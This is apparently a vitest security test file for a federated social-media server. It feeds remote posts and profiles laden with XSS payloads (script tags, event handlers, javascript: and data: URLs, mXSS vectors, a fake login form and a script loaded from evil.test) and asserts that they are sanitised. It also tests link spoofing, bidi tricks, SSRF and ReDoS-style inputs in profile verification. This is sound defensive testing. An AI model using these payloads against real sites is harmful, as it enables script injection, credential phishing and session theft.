import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { profileView } from '#domain/accounts/accounts.queries.ts';
import { editProfile } from '#domain/accounts/edit-profile.ts';
import { publishPost } from '#domain/posts/publish-post.ts';
import { renderField } from '#domain/posts/render-text.ts';
import { linksBack } from '#federation/resolve/links-back.ts';
import { PUBLIC } from '#federation/vocabulary.ts';
import { MINUTE_MS } from '#kernel/clock.ts';
import { draft } from '../stories/cast.ts';
import { createNote } from '../peer.ts';
import { structureOf } from '../web/html-structure.ts';
import { find } from '../web/markup.ts';
import { openSite, type Site } from '../web/site.ts';
import { enter, type Visitor } from '../web/visitor.ts';
import {
  activity,
  bobFollows,
  deliver,
  expectHealthy,
  openStage,
  rowsOf,
  send,
  settleIn,
  type Stage,
} from './harness.ts';

/* Section E of the attacks: what is shown to people. A reader's pages stand on the store of the attacked instance. */

let stage: Stage;
let site: Site;
let reader: Visitor;

beforeAll(async () => {
  stage = await openStage();
  const { sut, net } = stage;
  // Cookies and links of the pages are those of an instance with TLS.
  const own = { origin: 'https://a.test', host: 'a.test', handleDomain: 'a.test' };
  site = await openSite({ deps: { store: sut.store, commit: sut.commit, clock: net.clock, site: own } });
  const onStage = {
    ...site,
    world: { ...site.world, store: sut.store, commit: sut.commit, clock: net.clock, person: sut.person },
  };
  reader = await enter(onStage, 'reader');
  await bobFollows(stage, stage.eve);
  await sut.store.write((tx) => tx.update(sut.store.schema.accounts).set({ indexable: true, discoverable: true }));
});

afterAll(async () => {
  await site.close();
  await stage.close();
});

beforeEach(() => {
  stage.sut.logged.length = 0;
  stage.net.clock.advance(MINUTE_MS);
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt/src=//evil.test/x.js></sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)"',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://evil.test/" onclick="alert(1)" target="_top">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.test/"><input name="password"><button>Log in</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<object data="https://evil.test/x"></object><embed src="https://evil.test/x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</p></div></article></main><div data-part="composer" class="dialog notice">x</div>',
  '"><script>alert(1)</script>',
  '\'"></a></textarea></title><svg/onload=alert(1)>',
  '" autofocus onfocus="alert(1)" x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '\u2028\u2029</script><script>alert(1)</script>',
];

const PICTURE = 'https://evil.test/x.png';

let made = 0;

/** A person of evil whose every text is `text`, and a post of theirs likewise; returns the post's id. */
async function speak(text: string): Promise<{ handle: string; postId: number; pollId: number }> {
  made += 1;
  const handle = `speaker${made}`;
  const speaker = settleIn(stage.evil, handle, stage.eve.key, {
    name: text,
    summary: text,
    attachment: [{ type: 'PropertyValue', name: text, value: text }],
    tag: [{ type: 'Emoji', name: `:${text}:`, icon: { type: 'Image', url: PICTURE } }],
    icon: { type: 'Image', url: PICTURE, name: text },
  });
  await bobFollows(stage, speaker);
  const create = createNote(speaker.id);
  const note: Record<string, unknown> = {
    ...(create['object'] as object),
    to: [PUBLIC, `${stage.origin}/users/reader`],
    content: text,
    contentMap: { [text]: text },
    summary: text,
    name: text,
    language: text,
    url: [`https://evil.test/${text}`, { type: 'Link', href: text, mediaType: 'text/html' }],
    attachment: [
      { type: 'Document', mediaType: 'image/png', url: PICTURE, name: text, blurhash: text, width: text },
      { type: 'Document', mediaType: text, url: `https://evil.test/${text}`, name: text },
    ],
    tag: [
      { type: 'Mention', href: `${stage.origin}/users/reader`, name: text },
      { type: 'Hashtag', name: `#${text}`, href: text },
      { type: 'Emoji', name: `:${text}:`, icon: { type: 'Image', url: PICTURE } },
      { type: 'Emoji', name: ':ok:', icon: { type: 'Image', url: text } },
    ],
  };
  await deliver(stage, speaker, { ...create, object: note, to: note['to'] });
  const updated = new Date(stage.net.clock.now() + 2000).toISOString();
  stage.net.clock.advance(3000);
  await deliver(stage, speaker, activity(speaker, 'Update', { ...note, content: `${text} again`, updated }));
  const option = (name: string) => ({ type: 'Note', name, replies: { type: 'Collection', totalItems: 1 } });
  const question = {
    ...note,
    id: `${String(note['id'])}-poll`,
    type: 'Question',
    oneOf: [option(text), option(`${text} or not`)],
    content: text,
  };
  await deliver(stage, speaker, activity(speaker, 'Create', question));
  const ids = await rowsOf<{ id: number }>(
    stage.sut,
    'select p.id from posts p join accounts a on a.id = p.author_id where a.handle = $1 order by p.uri',
    handle,
  );
  return { handle, postId: ids[0]?.id ?? 0, pollId: ids[1]?.id ?? 0 };
}

/** Every page on which the words of that person stand. */
function pagesOf({ handle, postId, pollId }: Awaited<ReturnType<typeof speak>>): string[] {
  const person = `/@${handle}@evil.test`;
  return [
    person,
    `${person}/replies`,
    `${person}/media`,
    `${person}/${postId}`,
    `${person}/${postId}/history`,
    `${person}/${pollId}`,
    '/federated',
    '/notifications',
    `/search?q=${handle}`,
    '/explore/people',
    '/explore/tags',
  ];
}

/** All that the sanitiser leaves, as it writes it. */
const ALLOWED =
  /^<(?:\/?(?:p|span|em|strong|del|s|u|blockquote|ul|ol|li|pre|code)|br \/|\/a|(?:span|a)(?: (?:href="(?:https?|mailto|xmpp|matrix|gemini):[^"<>]*"|rel="nofollow noopener noreferrer ugc"|class="[a-z -]*"))*)>$/;

function unlisted(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !ALLOWED.test(tag));
}

describe('#62 markup from elsewhere', () => {
  test.each(ATTACKS)('#62 %s in every text of a person and of a post', async (text) => {
    const spoken = await speak(text);
    const stored = await rowsOf<{ html: string }>(
      stage.sut,
      `select content_html as html from posts union all select bio_html from accounts where domain <> ''
       union all select content_html from post_edits`,
    );
    expect(stored.flatMap(({ html }) => unlisted(html))).toEqual([]);
    const fields = await rowsOf<{ fields: string }>(
      stage.sut,
      `select fields from accounts where handle = '${spoken.handle}'`,
    );
    const values = fields.flatMap((row) =>
      (JSON.parse(row.fields) as { valueHtml: string }[]).map(({ valueHtml }) => valueHtml),
    );
    expect(values.flatMap(unlisted)).toEqual([]);
    // The visitor looks at each page for script, style, handlers and addresses that run, and for markup that is not ours.
    for (const page of pagesOf(spoken)) {
      await reader.visit(page);
      expect([page, reader.status]).toEqual([page, 200]);
      const elements = reader.html.match(/<(?:iframe|object|embed|base|math|template|noscript|frame|applet)\b/gi) ?? [];
      expect(elements).toEqual([]);
      for (const [form] of reader.html.matchAll(/<form\b[^>]*>/g)) expect(form).not.toContain('evil.test');
      expect(find(reader.document, ({ attributes }) => attributes.has('http-equiv'))).toEqual([]);
    }
    await expectHealthy(stage);
  });

  test('#62 where only text is expected the page is built as for plain words', async () => {
    const plain = 'plain words';
    const text = '<b onclick="x">plain</b> "\'><words>';
    const twins: string[][] = [];
    for (const words of [plain, text]) {
      made += 1;
      const handle = `twin${made}`;
      const twin = settleIn(stage.evil, handle, stage.eve.key, {
        name: words,
        attachment: [{ type: 'PropertyValue', name: words, value: 'a value' }],
      });
      await bobFollows(stage, twin);
      const option = (name: string) => ({ type: 'Note', name, replies: { type: 'Collection', totalItems: 1 } });
      const create = createNote(twin.id);
      const note = {
        ...(create['object'] as object),
        type: 'Question',
        content: '<p>the same</p>',
        summary: words,
        oneOf: [option(words), option('another')],
        attachment: [{ type: 'Document', mediaType: 'image/png', url: PICTURE, name: words, width: 10, height: 10 }],
      };
      await deliver(stage, twin, { ...create, object: note });
      const [row] = await rowsOf<{ id: number }>(
        stage.sut,
        'select p.id from posts p join accounts a on a.id = p.author_id where a.handle = $1',
        handle,
      );
      const structures: string[] = [];
      for (const path of [`/@${handle}@evil.test`, `/@${handle}@evil.test/${row?.id}`]) {
        await reader.visit(path);
        structures.push(structureOf(reader.html));
      }
      twins.push(structures);
    }
    expect(twins[1]).toEqual(twins[0]);
  });

  test('#62 a local person’s own words are words, here and on their way to others', async () => {
    const id = await stage.sut.person('typist');
    for (const text of ATTACKS) {
      const postId = await stage.sut.commit(
        publishPost,
        draft(id, text, { warning: text, poll: { options: [text.slice(0, 40), 'no'], multiple: false, minutes: 60 } }),
      );
      await reader.visit(`/@typist/${postId}`);
      expect(reader.status).toBe(200);
      const reply = await send(stage, {
        method: 'GET',
        path: `/users/typist/posts/${postId}`,
        headers: new Headers({ host: stage.sut.host, accept: 'application/activity+json' }),
        body: new Uint8Array(),
      });
      const { content } = JSON.parse(reply.body) as { content: string };
      expect(content.match(/<\/?(?!(?:p|a|span|br)\b)[a-z][^>]*>/gi) ?? []).toEqual([]);
      expect(content).not.toMatch(/<a [^>]*href="(?!https?:)/);
    }
  });

  test('#62 neither handles nor hosts bring markup in', async () => {
    const before = await rowsOf(stage.sut, 'select count(*) as n from accounts');
    for (const [n, handle] of ['<b>', 'a"b', "a'b", 'a b', 'a/b', '../x', 'a\u202eb', 'a\u200bb', '@a', ''].entries()) {
      const odd = settleIn(stage.evil, `odd${n}`, stage.eve.key, { preferredUsername: handle });
      expect(await stage.sut.federation.resolver.accountByUri(odd.id), handle).toBeNull();
    }
    expect(await rowsOf(stage.sut, 'select count(*) as n from accounts')).toEqual(before);
  });

  test('#62 a report’s words are words to those who read it', async () => {
    const text = '<script>alert(1)</script><img src=x onerror=alert(1)>please look';
    await deliver(stage, stage.eve, { ...activity(stage.eve, 'Flag', [stage.bob.uri]), content: text });
    const [report] = await rowsOf<{ comment: string }>(stage.sut, 'select comment from reports');
    expect(report?.comment).not.toMatch(/[<>]/);
  });
});

describe('#63 words that lie', () => {
  test('#63 a link shows where it leads, and a name turns nothing round', async () => {
    const liar = settleIn(stage.evil, 'liar', stage.eve.key, { name: '\u202etset\u2066 eve' });
    await bobFollows(stage, liar);
    const content =
      '<a href="https://bank.example@evil.test/">https://bank.example</a> <span class="invisible">hidden</span>';
    const create = createNote(liar.id);
    await deliver(stage, liar, { ...create, object: { ...(create['object'] as object), content } });
    const [post] = await rowsOf<{ id: number }>(
      stage.sut,
      `select p.id from posts p join accounts a on a.id = p.author_id where a.handle = 'liar'`,
    );
    await reader.visit(`/@liar@evil.test/${post?.id}`);
    expect(reader.html).toContain('<a href="https://evil.test/"');
    expect(reader.html).not.toMatch(/href="[^"]*bank\.example/);
    expect(reader.html).not.toMatch(/<span class="invisible">hidden/);
    expect(reader.html).toMatch(/<bdi class="name">[^<]*\u202e/);
  });
});

describe('#65 claims of a home page', () => {
  const HERE = 'http://a.test/@bob';
  const LINK = `<a rel="me" href="${HERE}">me</a>`;

  /** Bob's profile names these pages of evil; returns which of them are marked as his. */
  async function marked(...addresses: string[]): Promise<string[]> {
    const { sut, net, bob } = stage;
    net.clock.advance(MINUTE_MS + 1);
    await sut.commit(editProfile, {
      accountId: bob.id,
      displayName: 'Bob',
      bio: '',
      bioHtml: '',
      fields: addresses.map((value) => ({
        name: 'Page',
        value,
        valueHtml: renderField(value, new Map(), 'http://a.test'),
      })),
      locked: false,
      bot: false,
      discoverable: true,
      indexable: true,
      countsHidden: false,
    });
    await net.settle();
    const profile = await profileView(sut.store, bob.id);
    return addresses.filter((_, index) => profile?.fields[index]?.verifiedAt);
  }

  const html = (body: unknown, more: object = {}) => ({ type: 'text/html; charset=utf-8', body, ...more });

  test('#65 only a link to this very profile confirms one', async () => {
    const { evil } = stage;
    evil.on('/good', html(LINK));
    expect(await marked(`${evil.base}/good`)).toEqual([`${evil.base}/good`]);
    const others = [
      'http://a.test/@bobby',
      'http://a.test/@bob/1',
      'http://a.test/@bob?x',
      'http://a.test/@BOB',
      'http://a.test.evil.test/@bob',
      'http://evil.test/@bob',
      'https://a.test/@bob',
      '/@bob',
      '//a.test/@alice',
      'http://a.test@evil.test/@bob',
    ];
    for (const other of others) {
      evil.on('/claim', html(`<a rel="me" href="${other}">me</a><link rel="me" href="${other}">`));
      expect([other, await marked(`${evil.base}/claim`)]).toEqual([other, []]);
    }
    for (const rel of ['', 'nofollow', 'home', 'me-too', 'author']) {
      evil.on('/claim', html(`<a rel="${rel}" href="${HERE}">me</a>`));
      expect([rel, await marked(`${evil.base}/claim`)]).toEqual([rel, []]);
    }
  });

  test.each([
    `<!-- ${LINK} -->`,
    `<script>"${LINK.replaceAll('"', "'")}"</script>`,
    `<style>${LINK}</style>`,
    `<title>${LINK}</title>`,
    `<textarea>${LINK}</textarea>`,
    `<xmp>${LINK}</xmp><noembed>${LINK}</noembed><iframe>${LINK}</iframe>`,
    `<input value="${LINK.replaceAll('"', "'")}">`,
    LINK.replaceAll('<', '&lt;'),
    `<a href="x" href="${HERE}" rel="me">`,
    `<a title="rel=me" href="${HERE}">`,
    `<img rel="me" href="${HERE}"><form rel="me" action="${HERE}">`,
  ])('#65 words of a visitor on a page are no link of it: %s', async (body) => {
    stage.evil.on('/search', html(body));
    expect(await marked(`${stage.evil.base}/search`)).toEqual([]);
  });

  test('#65 a page that only forwards is not confirmed by where it leads', async () => {
    const { evil, third, sink } = stage;
    third.on('/me', html(LINK));
    evil.on('/go', { status: 302, headers: { location: `${third.base}/me` } });
    evil.on('/loop', { status: 302, headers: { location: '/loop' } });
    evil.on('/inside', { status: 302, headers: { location: `http://127.0.0.1:${sink.port}/` } });
    evil.on('/near', { status: 301, headers: { location: '/good' } });
    evil.on('/good', html(LINK));
    const pages = ['/go', '/loop', '/inside', '/near'].map((path) => evil.base + path);
    expect(await marked(...pages)).toEqual([`${evil.base}/near`]);
    expect(evil.hitsOf('/loop')).toBeLessThanOrEqual(4);
    expect(sink.connections).toBe(0);
  });

  test('#65 what is no page, too large, packed, or of the own network confirms nothing', async () => {
    const { evil, sink } = stage;
    evil.on('/json', { type: 'application/json', body: LINK });
    evil.on('/large', html(LINK + ' '.repeat(10_000_000)));
    evil.on('/packed', html(gzipSync(LINK), { headers: { 'content-encoding': 'gzip' } }));
    const pages = [`${evil.base}/json`, `${evil.base}/large`, `${evil.base}/packed`, `http://127.0.0.1:${sink.port}/`];
    expect(await marked(...pages)).toEqual([]);
    expect(sink.connections).toBe(0);
    evil.on('/missing', html(LINK, { status: 404 }));
    expect(await marked(`${evil.base}/missing`, 'http://user:word@evil.test/good')).toEqual([]);
  });

  test('#65 a page made to be read slowly is read in time that grows with it', () => {
    const base = new URL('http://evil.test/');
    const addresses = new Set([HERE]);
    const monsters = [
      '<a '.repeat(300_000),
      '<b>'.repeat(160_000) + '</i>'.repeat(120_000),
      `<a rel="${'me '.repeat(300_000)}`,
      `<a ${'x=" '.repeat(200_000)}`,
      '<!--'.repeat(240_000),
      '<a href="&#'.repeat(80_000),
      `<a rel=${'&amp'.repeat(200_000)}>`,
      '</'.repeat(450_000),
      '<script></'.repeat(90_000),
    ];
    for (const monster of monsters) {
      expect(monster.length).toBeGreaterThan(800_000);
      const begin = process.cpuUsage().user;
      expect(linksBack(monster, base, addresses)).toBe(false);
      expect(process.cpuUsage().user - begin, monster.slice(0, 20)).toBeLessThan(2_000_000);
    }
  });

  test('#65 a profile from elsewhere is not believed to have been confirmed', async () => {
    const attachment = [
      { type: 'PropertyValue', name: 'Site', value: LINK, verifiedAt: '2020-01-01T00:00:00Z', verified_at: 1 },
    ];
    const boaster = settleIn(stage.evil, 'boaster', stage.eve.key, { attachment });
    const id = await stage.sut.federation.resolver.accountByUri(boaster.id);
    expect((await profileView(stage.sut.store, id ?? 0))?.fields).toMatchObject([{ name: 'Site', verifiedAt: null }]);
  });
});
